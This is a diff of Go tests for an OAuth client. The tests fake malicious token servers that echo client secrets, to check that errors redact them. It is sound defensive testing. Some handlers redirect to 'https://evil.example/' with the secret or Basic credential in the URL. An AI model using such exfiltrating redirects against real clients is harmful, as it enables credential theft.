@@ -12,7 +12,6 @@ import (
 	"testing"
 
 	"github.com/oatcli/oat/oauth/oauthtest"
-	"github.com/oatcli/oat/vault"
 )
 
 // The tests here are written the way an attacker would try: a token endpoint on
@@ -27,7 +26,7 @@ func hostileServer(t *testing.T, h http.HandlerFunc) (*oauthtest.Server, TokenRe
 	srv := newServer(t)
 	srv.AddClient(oauthtest.Client{ID: "evil-client", Flavour: oauthtest.Generic, Secrets: []string{hostileSecret},
 		Misbehave: oauthtest.Misbehaviour{Custom: h}})
-	return srv, TokenRequest{TokenURL: srv.TokenURL(oauthtest.Generic), ClientID: "evil-client", ClientSecret: hostileSecret, Auth: vault.AuthBasic}
+	return srv, TokenRequest{TokenURL: srv.TokenURL(oauthtest.Generic), ClientID: "evil-client", ClientSecret: hostileSecret, Auth: AuthBasic}
 }
 
 func jsonAnswer(status int, body map[string]any) http.HandlerFunc {
@@ -41,7 +40,7 @@ func jsonAnswer(status int, body map[string]any) http.HandlerFunc {
 // allSecretForms are the forms in which oat sends the secret of req.
 func allSecretForms(req TokenRequest) []string {
 	forms := []string{req.ClientSecret, url.QueryEscape(req.ClientSecret), url.PathEscape(req.ClientSecret)}
-	for _, enc := range []vault.BasicEncoding{vault.BasicRFC, vault.BasicRaw} {
+	for _, enc := range []BasicEncoding{BasicRFC, BasicRaw} {
 		b := strings.TrimPrefix(BasicCredentials(req.ClientID, req.ClientSecret, enc), "Basic ")
 		forms = append(forms, b, strings.TrimRight(b, "="))
 	}
@@ -128,41 +127,41 @@ func TestSecretIsRedactedFromEveryError(t *testing.T) {
 		}
 	}
 	cases := map[string]struct {
-		auth vault.AuthMethod
-		enc  vault.BasicEncoding
+		auth AuthMethod
+		enc  BasicEncoding
 		h    http.HandlerFunc
 	}{
-		"description echoes the Basic header":             {vault.AuthBasic, vault.BasicRFC, echoAuth(false)},
-		"description echoes the Basic header, no padding": {vault.AuthBasic, vault.BasicRFC, echoAuth(true)},
-		"description echoes the raw Basic header":         {vault.AuthBasic, vault.BasicRaw, echoAuth(false)},
-		"description echoes a prefix of the Basic header": {vault.AuthBasic, vault.BasicRFC, func(w http.ResponseWriter, r *http.Request) {
+		"description echoes the Basic header":             {AuthBasic, BasicRFC, echoAuth(false)},
+		"description echoes the Basic header, no padding": {AuthBasic, BasicRFC, echoAuth(true)},
+		"description echoes the raw Basic header":         {AuthBasic, BasicRaw, echoAuth(false)},
+		"description echoes a prefix of the Basic header": {AuthBasic, BasicRFC, func(w http.ResponseWriter, r *http.Request) {
 			a := r.Header.Get("Authorization")
 			jsonAnswer(401, map[string]any{"error": "invalid_client", "error_description": a[:len(a)-3]})(w, r)
 		}},
-		"description echoes the form body": {vault.AuthPost, vault.BasicRFC, func(w http.ResponseWriter, r *http.Request) {
+		"description echoes the form body": {AuthPost, BasicRFC, func(w http.ResponseWriter, r *http.Request) {
 			b, _ := readAllLimited(r)
 			jsonAnswer(400, map[string]any{"error": "invalid_request", "error_description": b})(w, r)
 		}},
-		"redirect whose Location holds the secret": {vault.AuthPost, vault.BasicRFC, func(w http.ResponseWriter, r *http.Request) {
+		"redirect whose Location holds the secret": {AuthPost, BasicRFC, func(w http.ResponseWriter, r *http.Request) {
 			http.Redirect(w, r, "https://evil.example/?s="+url.QueryEscape(hostileSecret), http.StatusFound)
 		}},
-		"redirect whose Location holds the Basic header": {vault.AuthBasic, vault.BasicRFC, func(w http.ResponseWriter, r *http.Request) {
+		"redirect whose Location holds the Basic header": {AuthBasic, BasicRFC, func(w http.ResponseWriter, r *http.Request) {
 			http.Redirect(w, r, "https://evil.example/"+strings.TrimPrefix(r.Header.Get("Authorization"), "Basic "), http.StatusFound)
 		}},
-		"malformed response header holding the secret": {vault.AuthPost, vault.BasicRFC, rawAnswer("HTTP/1.1 200 OK\r\nX-Echo " + hostileSecret + "\r\n\r\n")},
-		"malformed response header holding the Basic cred": {vault.AuthBasic, vault.BasicRFC, func(w http.ResponseWriter, r *http.Request) {
+		"malformed response header holding the secret": {AuthPost, BasicRFC, rawAnswer("HTTP/1.1 200 OK\r\nX-Echo " + hostileSecret + "\r\n\r\n")},
+		"malformed response header holding the Basic cred": {AuthBasic, BasicRFC, func(w http.ResponseWriter, r *http.Request) {
 			rawAnswer("HTTP/1.1 200 OK\r\nX-Echo "+r.Header.Get("Authorization")+"\r\n\r\n")(w, r)
 		}},
-		"HTML page echoing the secret HTML-escaped": {vault.AuthPost, vault.BasicRFC, func(w http.ResponseWriter, r *http.Request) {
+		"HTML page echoing the secret HTML-escaped": {AuthPost, BasicRFC, func(w http.ResponseWriter, r *http.Request) {
 			w.Header().Set("Content-Type", "text/html")
 			w.WriteHeader(500)
 			fmt.Fprintf(w, "<html><body>secret was %s</body></html>", strings.ReplaceAll(hostileSecret, "&", "&amp;"))
 		}},
-		"JSON body echoing the secret JSON-escaped": {vault.AuthPost, vault.BasicRFC, func(w http.ResponseWriter, r *http.Request) {
+		"JSON body echoing the secret JSON-escaped": {AuthPost, BasicRFC, func(w http.ResponseWriter, r *http.Request) {
 			w.WriteHeader(500)
 			fmt.Fprintf(w, `{"message":"%s"}`, strings.ReplaceAll(hostileSecret, "/", `\/`))
 		}},
-		"response header echoing the secret": {vault.AuthPost, vault.BasicRFC, func(w http.ResponseWriter, r *http.Request) {
+		"response header echoing the secret": {AuthPost, BasicRFC, func(w http.ResponseWriter, r *http.Request) {
 			w.Header().Set("X-Echo", hostileSecret)
 			jsonAnswer(401, map[string]any{"error": "invalid_client"})(w, r)
 		}},
@@ -226,7 +225,7 @@ func TestAutoFallsBackOnlyOnClientAuthFailure(t *testing.T) {
 	c := NewClient()
 	// invalid_scope from Basic: the secret must not be sent a second time.
 	before := srv.TokenRequests()
-	_, err := c.FetchToken(context.Background(), req(srv, oauthtest.Cognito, vault.AuthAuto, "admin"))
+	_, err := c.FetchToken(context.Background(), req(srv, oauthtest.Cognito, AuthAuto, "admin"))
 	var oe *OAuthError
 	var ae *AutoError
 	if errors.As(err, &ae) || !errors.As(err, &oe) || oe.Code != "invalid_scope" {
@@ -236,8 +235,8 @@ func TestAutoFallsBackOnlyOnClientAuthFailure(t *testing.T) {
 		t.Fatalf("%d token requests, want 1", n)
 	}
 	// invalid_client from Basic: fall back to the body (and it works for the dashboard).
-	tok, err := c.FetchToken(context.Background(), req(srv, oauthtest.Dashboard, vault.AuthAuto))
-	if err != nil || tok.Auth != vault.AuthPost {
+	tok, err := c.FetchToken(context.Background(), req(srv, oauthtest.Dashboard, AuthAuto))
+	if err != nil || tok.Auth != AuthPost {
 		t.Fatalf("dashboard auto: %v", err)
 	}
 	for name, tc := range map[string]struct {
@@ -255,7 +254,7 @@ func TestAutoFallsBackOnlyOnClientAuthFailure(t *testing.T) {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
 			srv, rq := hostileServer(t, tc.h)
-			rq.Auth = vault.AuthAuto
+			rq.Auth = AuthAuto
 			before := srv.TokenRequests()
 			_, err := NewClient().FetchToken(context.Background(), rq)
 			n := srv.TokenRequests() - before
@@ -277,18 +276,18 @@ func TestLocalhostIsNotLookedUp(t *testing.T) {
 		t.Errorf("looked up %q", host)
 		return nil, errors.New("no lookups in this test")
 	}
-	rq := req(srv, oauthtest.Generic, vault.AuthBasic)
+	rq := req(srv, oauthtest.Generic, AuthBasic)
 	rq.TokenURL = strings.Replace(rq.TokenURL, "127.0.0.1", "localhost", 1)
 	if _, err := c.FetchToken(context.Background(), rq); err != nil {
 		t.Fatal(err)
 	}
 	for _, h := range []string{"localhost", "LOCALHOST", "127.0.0.1", "127.1.2.3", "::1"} {
-		if !vault.IsLoopback(h) {
+		if !IsLoopback(h) {
 			t.Errorf("%s is loopback", h)
 		}
 	}
 	for _, h := range []string{"evil.localhost", "localhost.evil.example", "a.b.localhost", "localhost.", "0.0.0.0", "example.com"} {
-		if vault.IsLoopback(h) {
+		if IsLoopback(h) {
 			t.Errorf("%s counted as loopback", h)
 		}
 	}
